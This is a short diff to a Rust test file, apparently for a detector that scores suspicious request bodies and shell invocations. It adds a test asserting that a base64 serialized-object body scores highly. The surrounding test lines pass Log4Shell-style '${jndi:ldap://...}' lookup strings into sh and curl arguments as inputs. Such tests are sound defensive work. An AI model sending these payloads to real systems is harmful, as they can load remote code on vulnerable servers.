@@ -59,6 +59,8 @@ fn tells_code_that_starts_a_shell_with_the_doubt_that_is_left() {
     judge(&effect, &[cause(request("/", query), 0.25)], &mut found);
     assert_eq!(found.first().map(|it| it.bits), Some(7.0));
     assert_eq!(bits(&effect, "x=hello"), 0.0);
+    // A body that is one serialized object looks like the name of a field.
+    assert_eq!(bits(&effect, "rO0ABXNyAApBcHAkR2FkZ2V0AAAA+/8="), 9.0);
     assert_eq!(ran(&["sh", "-c", "ping '${jndi:ldap://a/b}'"], query), 0.0);
     assert_eq!(ran(&["curl", "${jndi:ldap://a/b}"], query), 0.0);
 }
